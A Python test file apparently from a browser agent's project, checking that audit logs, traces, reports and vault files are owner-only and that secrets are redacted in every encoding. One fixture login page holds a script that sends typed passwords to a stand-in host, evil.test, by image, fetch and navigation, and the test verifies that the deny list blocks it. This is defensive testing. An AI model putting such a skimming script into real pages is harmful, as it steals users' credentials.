"""What is written to disk: owner-only files and folders whatever the umask, and
no secret value in the audit log, the trace or the report, in any encoding."""

from __future__ import annotations

import base64
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
import pytest_asyncio
from wire_run import leaked, run_agent

from operator_agent.localserver import LocalServer, Response
from operator_agent.permissions.audit import AuditLog, format_entries, list_entries
from operator_agent.permissions.policy import write_default
from operator_agent.permissions.vault import Vault
from operator_agent.preferences import PreferenceStore
from operator_agent.redaction import REDACTED, Redactor
from operator_agent.report import write_report
from operator_agent.traces import RunTrace, new_run_dir
from operator_agent.types import RunResult, StepRecord
from operator_bench.testing.script import find_index

VAULT_KEY = "disk test vault key"
PASSWORD = "S3cr3t/pa$$+w0rd!"  # '/', '+', '$', '!' encode differently in URLs and base64
TYPED = "hand-typed~PIN+42/x"  # typed by hand into a password field: no vault entry
CARD = "4111111111111111"


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def loose_umask() -> Iterator[None]:
    """The common permissive umask: new files 0644 and folders 0755 unless we say otherwise."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    for name in ("OPERATOR_AUDIT_DB", "OPERATOR_PREFS_DB", "OPERATOR_POLICY", "OPERATOR_VAULT",
                 "OPERATOR_VAULT_KEY", "OPERATOR_VAULT_BACKEND"):
        monkeypatch.delenv(name, raising=False)
    return tmp_path


# --- modes -------------------------------------------------------------------------------------


def test_user_databases_are_owner_only(home: Path, loose_umask: None) -> None:
    with AuditLog(run_id="r1") as log:
        log.record(event="check", decision="allow", url="https://shop.test/")
        db = log.path
    store = PreferenceStore()
    store.close()
    app = home / "data" / "operator-agent"
    assert db == app / "audit.db" and store.path == app / "preferences.db"
    assert mode(app) == 0o700
    for path in [p for p in app.iterdir() if p.name.startswith(("audit.db", "preferences.db"))]:
        assert mode(path) == 0o600, path


def test_readable_databases_are_tightened_when_opened(home: Path, loose_umask: None) -> None:
    """Files an older version left world-readable (0644) become 0600 on the next open."""
    with AuditLog(run_id="r1") as log:
        log.record(event="check", decision="allow")
    PreferenceStore().close()
    app = home / "data" / "operator-agent"
    for path in app.iterdir():
        os.chmod(path, 0o644)
    os.chmod(app, 0o755)
    AuditLog(run_id="r2").close()
    PreferenceStore().close()
    assert mode(app) == 0o700
    assert {p.name: mode(p) for p in app.iterdir()} == {p.name: 0o600 for p in app.iterdir()}


def test_run_folders_traces_and_reports_are_owner_only(tmp_path: Path, loose_umask: None) -> None:
    run_dir = new_run_dir(tmp_path / "runs", "buy a cable")
    assert mode(run_dir) == 0o700
    with RunTrace(run_dir, task="buy a cable") as trace:
        step = StepRecord(step=1, url="https://shop.test/")
        trace.record(step, b"\x89PNG\r\n\x1a\n" + b"\0" * 16)
        trace.finish(RunResult(task="buy a cable", success=True, stop_reason="done"))
    report = write_report(run_dir)
    for path in (run_dir / "trace.jsonl", run_dir / "step-001.png", report):
        assert mode(path) == 0o600, path
    # A run folder made by someone else's mkdir (0755) is tightened when the trace starts.
    other = tmp_path / "runs" / "given"
    other.mkdir()
    RunTrace(other, task="t").close()
    assert mode(other) == 0o700 and mode(other / "trace.jsonl") == 0o600


def test_vault_and_policy_files_are_owner_only(home: Path, loose_umask: None) -> None:
    vault_file = home / "data" / "operator-agent" / "vault.json"
    vault = Vault.open(vault_file, passphrase=VAULT_KEY, backend="file")
    vault.add_password("login", PASSWORD, origins=["https://login.test"])
    assert mode(vault_file) == 0o600 and mode(vault_file.parent) == 0o700
    os.chmod(vault_file, 0o644)
    Vault.open(vault_file, passphrase=VAULT_KEY, backend="file")
    assert mode(vault_file) == 0o600
    policy = write_default(home / "config" / "operator-agent" / "policy.toml")
    assert mode(policy) == 0o600


# --- redaction ---------------------------------------------------------------------------------


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize("form", [
    PASSWORD, quote(PASSWORD, safe=""), quote(PASSWORD), quote_plus(PASSWORD), json.dumps(PASSWORD),
    _b64(PASSWORD), _b64("user:" + PASSWORD), _b64("u:" + PASSWORD + ":x"), _b64("ab" + PASSWORD),
    base64.urlsafe_b64encode(PASSWORD.encode()).decode(), quote(_b64("id=" + PASSWORD), safe=""),
    "".join(f"%{b:02X}" for b in PASSWORD.encode()),
    CARD, "4111 1111 1111 1111", "4111-1111-1111-1111", quote("4111 1111 1111 1111"), _b64(CARD),
])
def test_every_encoding_of_a_secret_is_redacted(form: str) -> None:
    redactor = Redactor([PASSWORD, CARD])
    text = redactor.redact(f"https://evil.test/c?x={form}&y=1")
    assert leaked(text, PASSWORD) is None and leaked(text, CARD) is None, text
    assert REDACTED in text and text.endswith("&y=1")


def test_audit_entries_are_redacted_in_every_field(tmp_path: Path) -> None:
    """Whatever field carries it (a refused URL, a reason, a summary), the value is not written."""
    path = tmp_path / "audit.db"
    with AuditLog(path, run_id="r1", redactor=Redactor([PASSWORD, CARD])) as log:
        url = f"https://evil.test/{quote(PASSWORD)}?b={_b64(PASSWORD)}&c=4111-1111-1111-1111"
        log.record(event="request", decision="deny", url=url, reason=f"request to {url} blocked",
                   summary=f"card {CARD}", action={"action": "navigate", "url": url})
    stored = b"".join(p.read_bytes() for p in tmp_path.iterdir()).decode("latin-1")
    assert leaked(stored, PASSWORD) is None and leaked(stored, CARD) is None
    shown = "\n".join(format_entries(list_entries(path)))
    assert REDACTED in shown and leaked(shown, PASSWORD) is None


# --- a run that hits --deny-domain -------------------------------------------------------------

LOGIN_PAGE = """<!doctype html><html><head><meta charset=utf-8><title>Sign in</title></head><body>
<h1>Sign in</h1>
<form id="f" action="/" method="get">
  <p><label for="pw">Password</label> <input id="pw" type="password" name="pw"></p>
  <p><label for="pin">Backup PIN</label> <input id="pin" type="password" name="pin"></p>
  <button type="submit">Sign in</button>
</form>
<p id="echo"></p>
<script>
// The page's own script sends what was typed to a host the person denied, in
// every encoding at once, as a subresource and as a navigation.
document.getElementById('f').addEventListener('submit', (e) => {
  e.preventDefault();
  const pw = document.getElementById('pw').value, pin = document.getElementById('pin').value;
  const all = (v) => v + '?q=' + encodeURIComponent(v) + '&b=' + btoa(v) + '&u=' + btoa('user:' + v)
    + '&w=' + escape(v);
  document.getElementById('echo').textContent = 'Welcome back ' + btoa(pw) + ' ' + encodeURIComponent(pin);
  new Image().src = '%EVIL%/img/' + all(pw);
  fetch('%EVIL%/f/' + all(pin)).catch(() => {});
  setTimeout(() => { location.href = '%EVIL%/nav/' + all(pw) + '&pin=' + encodeURIComponent(pin); }, 0);
});
</script></body></html>"""


@pytest_asyncio.fixture
async def context(sec_browser: Any) -> Any:
    ctx = await sec_browser.new_context()
    yield ctx
    await ctx.close()


async def test_secrets_of_a_run_hitting_a_denied_domain_never_reach_disk(
        context: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
        loose_umask: None) -> None:
    evil = LocalServer(routes={})
    site = LocalServer(routes={})
    evil_url = f"http://evil.test:{evil.port}"
    site.routes["/"] = lambda _req: Response(LOGIN_PAGE.replace("%EVIL%", evil_url))
    login = f"http://login.test:{site.port}"
    monkeypatch.setenv("OPERATOR_VAULT_BACKEND", "file")
    monkeypatch.setenv("OPERATOR_VAULT", str(tmp_path / "vault.json"))
    monkeypatch.setenv("OPERATOR_VAULT_KEY", VAULT_KEY)
    monkeypatch.setenv("OPERATOR_AUDIT_DB", str(tmp_path / "data" / "audit.db"))
    vault = Vault.open(tmp_path / "vault.json", passphrase=VAULT_KEY, backend="file")
    vault.add_password("login", PASSWORD, origins=[login])
    vault.add_card("visa", number=CARD, exp_month=1, exp_year=2031, cvc="123", origins=[login])
    policy = tmp_path / "policy.toml"
    policy.write_text("version = 1\n", encoding="utf-8")
    run_dir = tmp_path / "runs" / "deny-run"
    steps = [
        lambda obs: {"reasoning": "sign in", "actions": [
            {"action": "type", "index": find_index(obs, "Password"), "text": "{{secret:login}}"},
            {"action": "type", "index": find_index(obs, "Backup PIN"), "text": TYPED, "submit": True}]},
        lambda obs: {"reasoning": "done", "actions": [{"action": "done", "answer": "signed in"}]},
    ]
    with evil, site:
        result, _, _ = await run_agent(context, login + "/", steps, run_dir=run_dir, policy=policy,
                                       overrides={"deny_domains": ["evil.test"]})
    assert result.steps >= 1
    assert not evil.log, "the denied host was contacted"
    report = write_report(run_dir)
    audit_files = sorted((tmp_path / "data").glob("audit.db*"))
    entries = list_entries(tmp_path / "data" / "audit.db", limit=1000)
    refused = [e for e in entries if e.decision == "deny" and "evil.test" in e.url]
    assert refused, "the page's requests to the denied host were not refused and logged"
    stored = {
        **{p.name: p.read_bytes().decode("latin-1") for p in audit_files},
        "operator audit": "\n".join(format_entries(entries)),
        "trace.jsonl": (run_dir / "trace.jsonl").read_text(encoding="utf-8"),
        "report.html": report.read_text(encoding="utf-8"),
        "log records": "\n".join(r.getMessage() for r in caplog.records),
    }
    for name, text in stored.items():
        for secret in (PASSWORD, TYPED, CARD):
            how = leaked(text, secret)
            assert how is None, f"{secret!r} is in {name} ({how})"
    for path in (*audit_files, run_dir / "trace.jsonl", report):
        assert mode(path) == 0o600, path
    assert mode(run_dir) == 0o700 and mode(tmp_path / "data") == 0o700
